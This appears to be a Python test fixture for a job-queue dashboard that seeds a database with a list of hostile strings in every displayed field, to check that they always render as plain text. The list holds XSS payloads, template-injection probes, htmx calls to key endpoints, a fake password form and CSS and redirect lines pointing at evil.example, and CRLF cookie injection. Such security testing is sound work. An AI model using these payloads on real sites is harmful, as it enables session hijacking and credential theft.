"""Hostile texts, and a site with each of them in every field that a page shows.

Redrive would reject the texts in many of these fields. So the site is filled with plain words, which are then
replaced in the tables: however a text gets in, it must never come out as anything but text.
"""

from __future__ import annotations

import json
from pathlib import Path
from string import ascii_lowercase
from typing import Any

import apsw

from redrive import FinalError, Redrive
from redrive.engine.definition import Definition
from redrive.engine.handle import RunHandle
from redrive.parts import parts_of
from redrive.policy.codec import encode
from redrive.policy.template import Template

RUN = "window.__ran=1"
HOSTILE = [
    "Plain words",
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}' tabindex='0",
    f"javascript:{RUN}",
    f" JaVaScRiPt:{RUN}//https://example.com",
    f"data:text/html,<script>{RUN}</script>",
    "{{7*7}}{% raw %}{{ config }}{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>[[${7*7}]]",
    '" hx-get="/app/admin/keys" hx-trigger="load" hx-target="body',
    f'<div hx-on:load="{RUN}" hx-get="/api/v1/keys" hx-trigger="load"></div>',
    "' data-action='DELETE /api/v1/session' data-then='go //evil.example",
    '<button data-action="DELETE /api/v1/session" data-key="e">Resolve</button>',
    f"</textarea></title></style></select></template><script>{RUN}</script>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<b>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><base href=//evil.example/>',
    "<meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "</style><style>*{display:none}</style>x;background:url(//evil.example/x.png)}",
    '" style="position:fixed;inset:0;background:url(//evil.example/x.png)',
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "\u202egnp.exe\u2066\u200f\u00ad\ufeff mirrored",
    "\ud800 half <b>a character</b> \udfff and \x00 none \x1b[31m",
    "W" * 190 + "<wbr>",
    "\\u003cscript\\u003e\\x3cscript\\x3e%3Cscript%3E\\'\\\";//",
    "{name} {id} {changed|<b>|</b>} `${7*7}`",
    "../../../app/sign-in?next=//evil.example#x&q=is:any;%0d%0aSet-Cookie:x=1",
]
ORGANIZATION = "default"


def word(number: int) -> str:
    """Return a placeholder for a text: only letters, unlike any number or id."""
    high, low = divmod(number, len(ascii_lowercase))
    return f"zq{ascii_lowercase[high]}{ascii_lowercase[low]}qz"


class Furnished:
    """The ids of the objects, for each of the texts."""

    def __init__(self) -> None:
        self.runs: list[str] = []
        self.letters: list[str] = []
        self.groups: list[str] = []
        self.operations: list[str] = []


async def furnish(path: Path) -> Furnished:
    """Create a database at this path with each text in every field."""
    app = Redrive(f"sqlite:///{path}", log=False, durable=False)
    known = Furnished()
    for number in range(len(HOSTILE)):
        _declare(app, word(number))
    await app.open()
    runs = [await _start(app, word(number)) for number in range(len(HOSTILE))]
    worker = parts_of(app).worker_in_test()
    await worker.work_off()
    for number, run in enumerate(runs):
        await _look_after(app, known, run, word(number))
    await worker.work_off()
    for number in range(len(HOSTILE)):
        await _operate(app, known, number)
    await app.close()
    _replace(path)
    return known


def _declare(app: Redrive, text: str) -> None:
    failing = type(text, (FinalError,), {"__module__": text})

    @app.task(name=f"{text} ready", queue=text)
    async def ready(payload: Any) -> Any:
        return {text: [text, payload]}

    @app.task(name=text, queue=text, breaker=text)
    async def fail(payload: Any) -> None:
        raise failing(f"{text} it has failed")

    app.workflow(
        f"{text} work", [ready.step(text, config={text: text}), fail.step(f"{text} step", config=[text])]
    )
    app.breaker(text)
    app.template(Template(text, task=text, owner=text, runbook=text, tags=[text]))


async def _start(app: Redrive, text: str) -> RunHandle[Any]:
    payload = {text: text, "list": [text, {text: {text: text}}], "password": text}
    await app.start(f"{text} work", payload, delay=3600, tags=[text])
    cancelled = await app.start(f"{text} work", payload, delay=3600)
    await cancelled.cancel(by=text, reason=text)
    return await app.start(
        f"{text} work", payload, key=text, correlation_id=text, tags=[text], metadata={text: text}
    )


async def _look_after(app: Redrive, known: Furnished, run: RunHandle[Any], text: str) -> None:
    failures = app.failures(by=text)
    letter = await run.dead_letter()
    assert letter is not None
    letters = failures
    await letters.note(letter.id, f"{text}\n{text}")
    await letters.resolve([letter.id], text)
    await letters.reopen([letter.id], text)
    await letters.assign([letter.id], text)
    await failures.replay(letter.id, reason=text)
    known.runs.append(run.id)
    known.letters.append(letter.id)
    known.groups.append(letter.fingerprint)


async def _operate(app: Redrive, known: Furnished, number: int) -> None:
    text, letter = word(number), known.letters[number]
    failures = app.failures(by=text)
    await failures.groups.acknowledge(known.groups[number], text)
    plan = await failures.plans.create(ids=[letter], reason=text)
    known.operations.append(plan.operation_id)
    if number % 3 == 0:
        await failures.plans.start(plan.operation_id)
    await failures.views.create(text, "dlq", f'"{text}"')
    await failures.views.create(text, "runs", f"workflow:{text}")
    await app.queues(by=text).pause(text, reason=text)
    if number % 2:
        await app.breakers(by=text).force(text, "OPEN", reason=text)
    members = app.members(by=text)
    await members.keys.create(text, "VIEWER")
    await members.add(text, "VIEWER")
    await members.organizations.create(text, text)
    await parts_of(app).store.limits.heartbeat(
        f"{text} worker", text, encode([text]), 9, 1, "running", text, number
    )


# Replacing the words by the texts

_OF_RUN = "(SELECT queue FROM runs WHERE id = run_id)"
_FURTHER = (
    "UPDATE runs SET place = 'held', held_by = 'breaker:' || queue WHERE place = 'waiting'",
    f"UPDATE steps SET worker = {_OF_RUN}, code_version = {_OF_RUN}",
    f"UPDATE attempts SET worker = {_OF_RUN}, code_version = {_OF_RUN}, public_message = {_OF_RUN}",
    "UPDATE dead_letters SET code_version = queue, public_code = queue, "
    "resolution = queue, resolved_by = queue",
    "UPDATE failure_group_versions SET code_version = (SELECT task FROM failure_groups AS own WHERE "
    "own.org = failure_group_versions.org AND own.fingerprint = failure_group_versions.fingerprint)",
    "UPDATE replay_operations SET stopped_because = reason, state = 'STOPPED' WHERE started_by IS NOT NULL",
)
"""Columns that only the engine writes."""

_TEXTS = {word(number): text for number, text in enumerate(HOSTILE)}


def _replace(path: Path) -> None:
    connection = apsw.Connection(str(path))
    triggers = connection.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    for name, _ in triggers:
        connection.execute(f'DROP TRIGGER "{name}"')
    tables = connection.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
    )
    for statement in _FURTHER:
        connection.execute(statement)
    for (table,) in tables.fetchall():
        _replace_in(connection, str(table))
    _seal_definitions(connection)
    for _, trigger in triggers:
        connection.execute(str(trigger))
    connection.close()


def _seal_definitions(connection: apsw.Connection) -> None:
    """Definitions are found by the hash of their content, so recompute the hashes."""
    for digest, body in connection.execute("SELECT digest, body FROM definitions").fetchall():
        made = Definition.parsed(str(body))
        known = {"digest": digest, "new": made.digest, "body": made.body}
        connection.execute("UPDATE definitions SET digest = :new, body = :body WHERE digest = :digest", known)
        connection.execute("UPDATE runs SET definition = :new WHERE definition = :digest", known)


def _replace_in(connection: apsw.Connection, table: str) -> None:
    columns = [str(row[1]) for row in connection.execute(f'PRAGMA table_info("{table}")')]
    for column in columns:
        rows = connection.execute(
            f'SELECT DISTINCT "{column}" FROM "{table}" WHERE "{column}" LIKE \'%zq%qz%\''
        )
        for (value,) in rows.fetchall():
            new = _replaced(str(value))
            connection.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE "{column}" = ?', (new, value))


def _replaced(value: str) -> str:
    if value.startswith(("{", "[", '"')):
        try:
            return encode(_within(json.loads(value)))
        except ValueError:
            pass
    return _storable(_said(value))


def _within(value: Any) -> Any:
    if isinstance(value, str):
        return _said(value)
    if isinstance(value, list):
        return [_within(each) for each in value]
    if isinstance(value, dict):
        return {_said(key): _within(each) for key, each in value.items()}
    return value


def _said(text: str) -> str:
    for known, hostile in _TEXTS.items():
        text = text.replace(known, hostile)
    return text


def _storable(text: str) -> str:
    """Return the text as a text column can store it."""
    stored: str = json.loads(encode(text)) if not text.isprintable() else text
    return stored
